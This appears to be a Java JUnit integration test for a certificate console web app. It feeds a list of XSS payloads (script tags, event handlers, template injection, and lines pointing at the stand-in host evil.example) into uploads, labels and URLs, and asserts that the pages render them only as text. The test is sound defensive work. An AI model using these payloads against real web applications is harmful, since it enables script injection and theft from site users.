/* SPDX-License-Identifier: Apache-2.0 */
package io.github.thumbkeeper.console;

import static io.github.thumbkeeper.console.ConsoleTomcat.field;
import static org.assertj.core.api.Assertions.assertThat;

import io.github.thumbkeeper.testkit.TestCertificate;
import java.net.URLEncoder;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import javax.security.auth.x500.X500Principal;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** Texts that a partner or a stranger has chosen are shown as texts: in pages, in attributes, in addresses and in JSON. */
class XssIT {

    /** A tag with its attributes. The templates put every value of an attribute into double quotes. */
    private static final Pattern TAG = Pattern.compile("<[a-zA-Z/!](?:\"[^\"]*\"|[^\">])*>?");

    private static final Pattern VALUE = Pattern.compile("\"[^\"]*\"");

    /** The tags, without values, that the pages have for a harmless certificate. */
    private static final Set<String> OWN = new TreeSet<>();

    private static final String HARMLESS = "a/b";

    private static int shown;
    private static ConsoleTomcat tomcat;

    @BeforeAll
    static void start() throws Exception {
        tomcat = new ConsoleTomcat().withApplication().start();
        show(HARMLESS);
        // Again, with the history of the first one.
        show(HARMLESS);
        assertThat(OWN).contains("<html lang=>", "</html>").hasSizeGreaterThan(50);
    }

    @AfterAll
    static void stop() throws Exception {
        tomcat.close();
    }

    static List<String> payloads() {
        return List.of(
                "<script>xss7(1)</script>",
                "\"><script>xss7(1)</script>",
                "'><script>xss7(1)</script>",
                "</title><script>xss7(1)</script>",
                "</textarea><script>xss7(1)</script>",
                "<img src=x onerror=xss7(1)>",
                "\"><img src=x onerror=xss7(1)>",
                "<svg onload=xss7(1)>",
                "<svg><script>xss7(1)</script></svg>",
                "</text></svg><script>xss7(1)</script>",
                "<iframe srcdoc='<script>xss7(1)</script>'>",
                "<body onload=xss7(1)>",
                "<a href=javascript:xss7(1)>x</a>",
                "javascript:xss7(1)",
                "\" onfocus=xss7(1) autofocus x=\"",
                "' onfocus=xss7(1) autofocus x='",
                "` onfocus=xss7(1) `",
                "<details open ontoggle=xss7(1)>",
                "<math><mtext></mtext><script>xss7(1)</script></math>",
                "<style>@import'//evil.example'</style>",
                "<base href=//evil.example>",
                "<form id=x action=//evil.example>",
                "<input onfocus=xss7(1) autofocus>",
                "<meta http-equiv=refresh content=0>",
                "{{constructor.constructor('xss7(1)')()}}",
                "${xss7(1)}",
                "<!--#exec cmd=xss7-->",
                "]]><script>xss7(1)</script>",
                "&lt;script&gt;xss7(1)&lt;/script&gt;",
                "<x hx-get=//evil.example hx-trigger=load>",
                "<SCRIPT/SRC=//evil.example></SCRIPT>",
                "\u202E<script>xss7(1)</script>");
    }

    @ParameterizedTest
    @MethodSource("payloads")
    void showsATextAsText(String payload) throws Exception {
        show(payload);
    }

    private static void show(String payload) throws Exception {
        TestCertificate editor = ConsoleTomcat.EDITORS.get(shown++ % ConsoleTomcat.EDITORS.size());
        String name = new X500Principal("CN=\"" + payload.replace("\\", "\\\\").replace("\"", "\\\"") + "\"").getName();
        TestCertificate certificate = TestCertificate.named(name)
                .uri("urn:" + payload.replaceAll("[^\\x21-\\x7E]", ""))
                .dnsName(payload.replaceAll("[^\\x21-\\x7E]", ""))
                .build();
        tomcat.call(certificate);
        String id = "sha256:" + certificate.sha256();

        HttpResponse<String> preview =
                tomcat.upload(editor, payload + ".pem", certificate.pem().getBytes(StandardCharsets.US_ASCII), "");
        check(preview, payload);
        // The whole payload as a label: the list takes it, or says why not, as a text.
        String version = field(preview.body(), "version");
        HttpResponse<String> added = tomcat.post(
                editor,
                "/console/add",
                Map.of(
                        "version",
                        version,
                        "item.0",
                        field(preview.body(), "item.0"),
                        "take.0",
                        "1",
                        "label.0",
                        payload,
                        "roles",
                        payload.equals(HARMLESS) ? "-,-" : payload));
        check(added, payload);
        if (added.statusCode() != 303) {
            added = tomcat.post(
                    editor,
                    "/console/add",
                    Map.of(
                            "version",
                            version,
                            "item.0",
                            field(preview.body(), "item.0"),
                            "take.0",
                            "1",
                            "label.0",
                            "p" + certificate.sha256().substring(0, 8)));
        }
        assertThat(added.statusCode()).as(added.body()).isEqualTo(303);
        String query = URLEncoder.encode(payload, StandardCharsets.UTF_8);
        for (String path : List.of(
                "/",
                "/entry?id=" + id,
                "/refused",
                "/history",
                "/expiry",
                "/?q=" + query,
                "/?notice=" + query + "&undo=" + query,
                "/entry?id=" + query,
                "/explain?gate=" + query + "&pem=" + query,
                "/upload?refused=" + id)) {
            check(tomcat.get(editor, "/console" + path), payload);
        }
        check(tomcat.post(editor, "/console/explain", Map.of("gate", payload, "pem", payload)), payload);
        HttpResponse<String> json = tomcat.get(editor, "/console/api/v1/entries?label=" + query);
        assertThat(json.headers().firstValue("Content-Type"))
                .hasValueSatisfying(type -> assertThat(type).startsWith("application/json"));
        assertThat(json.headers().firstValue("X-Content-Type-Options")).hasValue("nosniff");
        String page = tomcat.get(editor, "/console/entry?id=" + id).body();
        tomcat.post(editor, "/console/entry/remove", Map.of("id", id, "version", field(page, "version")));
    }

    private static Set<String> tags(String body) {
        return TAG.matcher(body)
                .results()
                .map(each -> VALUE.matcher(each.group()).replaceAll(""))
                .collect(Collectors.toCollection(TreeSet::new));
    }

    /** Every tag and attribute must be one that a page has for a harmless text; and no text may turn the direction of writing. */
    private static void check(HttpResponse<String> response, String payload) {
        String body = response.body();
        assertThat(response.statusCode()).as(body).isLessThan(500);
        assertThat(body).doesNotContain("\u202E").doesNotContain("href=\"javascript");
        if (payload.equals(HARMLESS)) {
            OWN.addAll(tags(body));
        } else {
            Set<String> others = tags(body);
            others.removeAll(OWN);
            assertThat(others).as(payload).isEmpty();
        }
    }
}
